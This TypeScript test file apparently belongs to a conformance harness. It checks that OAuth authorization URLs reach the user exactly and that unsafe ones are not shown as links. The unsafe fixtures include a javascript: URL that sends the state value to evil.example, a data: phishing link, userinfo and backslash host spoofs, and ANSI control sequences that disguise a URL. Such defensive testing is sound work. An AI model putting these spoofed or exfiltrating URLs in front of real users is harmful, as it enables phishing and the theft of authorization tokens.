/** Authorization URLs that must reach the user exactly, and those that must not be shown as something to visit. */

import {
  inconclusive,
  NotOffered,
  type Need,
  type Transcript,
} from '../../../../harness/engine/index.ts'
import { authUrl } from '../vocabulary.ts'
import { callOf, delivered, shownWithToken, type CallView } from '../view.ts'
import { check, type Judge } from '../judges/check.ts'
import { deliversResult } from '../judges/given-results.ts'
import { showsNothingOf, surfacesUrl } from '../judges/shown-urls.ts'
import { controls, goOn, scenario } from './define.ts'

const exact = [
  [
    'url-long',
    'of eight thousand characters',
    (state: string) => `${authUrl(state)}&request=${'Zm9vYmFy'.repeat(970)}`,
  ],
  [
    'url-unicode',
    'with characters beyond ASCII',
    (state: string) => `${authUrl(state)}&login_hint=zoë@例え.jp&ui=日本語`,
  ],
  [
    'url-escapes',
    'with escapes, doubled escapes, a repeated parameter and characters that HTML, Markdown and who looks for links give a meaning',
    (state: string) =>
      `${authUrl(state)}&claims=%7B%22id_token%22%3A%7B%7D%7D&nonce=a%2Bb%2520c+d&amp=1&copy=2&x=*_~(y)_*&resource=https%3A%2F%2Fapi.example&resource=https%3A%2F%2Ffiles.example&view=items(all)`,
  ],
  [
    'url-fragment',
    'with a fragment',
    (state: string) => `${authUrl(state)}&a=1&&b=#/consent?step=1&lang=en`,
  ],
] as const

const beyondAscii = 'url-unicode'

function isRefused({ deliveries }: CallView): boolean {
  const answer = deliveries.find(({ name }) => name === 'oauth')?.answer
  return answer?.type === 'response' && answer.status >= 400 && answer.status < 500
}

/** What is shown of it all the same is judged. */
function wasRefused(t: Transcript): boolean {
  const token = delivered(t, 'oauth')?.token
  return isRefused(callOf(t)) && shownWithToken(t, token ?? '').length === 0
}

/** A URL has no such characters (RFC 3986 §2), and callbacks are validated (RAP Transport, Security Considerations). */
const takenBeyondAscii: Need = {
  what: 'that a URL with characters beyond ASCII is taken',
  seen(run) {
    const t = run.get(beyondAscii)
    return t && !wasRefused(t) ? delivered(t, 'oauth')?.request : undefined
  },
}

/** Who refuses every oauth message refuses none for its URL. */
function unlessRefused(judge: Judge): Judge {
  return (t, context) => {
    const isUsual = context.control && isRefused(callOf(context.control))
    return wasRefused(t) && !isUsual
      ? inconclusive('the oauth message was refused')
      : judge(t, context)
  }
}

const exactScenarios = exact.map(([id, title, make]) =>
  scenario({
    id,
    title: `an authorization URL ${title}`,
    control: controls.oauth,
    ...(id === beyondAscii ? { needs: takenBeyondAscii } : {}),
    async drive({ converse }) {
      const call = converse().ask()
      await call.awaitInvocation()
      const oauth = await call.oauth('oauth', make)
      const surfaced = await goOn(call.awaitSurfaced(oauth))
      if (id === beyondAscii && isRefused(call.seen()))
        throw new NotOffered('it refuses a URL with characters beyond ASCII')
      const result = await call.result()
      await call.awaitGiven(result)
      surfaced()
    },
    checks: [
      check(
        'rap-oauth/runtime/surface-auth-url',
        `shows a URL ${title} exactly`,
        id === beyondAscii ? unlessRefused(surfacesUrl()) : surfacesUrl(),
      ),
      check(
        'rap-oauth/runtime/deliver-result',
        'gives the late result to the model',
        deliversResult(),
      ),
    ],
  }),
)

const insecure = (state: string): string => authUrl(state).replace('https:', 'http:')

const unsafe = [
  ['unsafe-http', 'an http URL', insecure],
  [
    'unsafe-javascript',
    'a javascript: URL',
    (state: string) => `javascript:fetch('//evil.example/${state}')`,
  ],
  [
    'unsafe-data',
    'a data: URL',
    (state: string) => `data:text/html,<a href="//evil.example">${state}</a>`,
  ],
  [
    'unsafe-similar-scheme',
    'a URL whose scheme begins with https',
    (state: string) => authUrl(state).replace('https:', 'https-app:'),
  ],
  [
    'unsafe-userinfo',
    'a URL with userinfo',
    (state: string) => `https://accounts.provider.example@evil.example/authorize?state=${state}`,
  ],
  [
    'unsafe-backslash',
    'a URL with a backslash in its authority',
    (state: string) => `https://accounts.provider.example\\@evil.example/authorize?state=${state}`,
  ],
  [
    'unsafe-control',
    'a URL with control characters',
    (state: string) =>
      `https://provider.example/\u001b[2K\u001b[1Ghttps://evil.example/?state=${state}`,
  ],
  [
    'unsafe-no-url',
    'a text that is not a URL',
    (state: string) => `please visit provider.example, code ${state}`,
  ],
] as const

const unsafeScenarios = unsafe.map(([id, title, make]) =>
  scenario({
    id,
    title: `${title} as auth_url, then a proper one`,
    control: controls.oauth,
    async drive({ converse, observe }) {
      const call = converse().ask()
      await call.awaitInvocation()
      await call.oauth('unsafe', make)
      await observe()
      const oauth = await call.oauth()
      const surfaced = await goOn(call.awaitSurfaced(oauth))
      const result = await call.result()
      await call.awaitGiven(result)
      surfaced()
    },
    checks: [
      check(
        'rap-oauth/runtime/no-unsafe-auth-url',
        `does not present ${title}`,
        showsNothingOf('unsafe', { exact: true }),
      ),
    ],
  }),
)

const unsafeLater = scenario({
  id: 'unsafe-after-proper',
  title: 'a proper URL as auth_url, then an http one for the same call',
  control: controls.oauth,
  async drive({ converse, observe }) {
    const call = converse().ask()
    await call.awaitInvocation()
    const surfaced = await goOn(call.awaitSurfaced(await call.oauth()))
    await call.oauth('unsafe', insecure)
    await observe()
    await call.awaitGiven(await call.result())
    surfaced()
  },
  checks: [
    check(
      'rap-oauth/runtime/no-unsafe-auth-url',
      'does not present an http URL in place of a proper one',
      showsNothingOf('unsafe', { exact: true }),
    ),
  ],
})

export const urlScenarios = [...exactScenarios, ...unsafeScenarios, unsafeLater]
